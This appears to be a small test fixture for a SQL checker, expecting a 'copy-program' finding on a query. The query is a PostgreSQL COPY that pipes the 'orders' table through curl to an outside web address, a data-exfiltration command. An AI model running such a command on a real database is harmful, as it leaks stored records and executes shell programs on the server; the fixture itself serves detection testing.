-- tables: orders
-- query: query.sql
COPY orders TO PROGRAM 'curl -T - http://example.com';
-- expect: copy-program "PROGRAM"
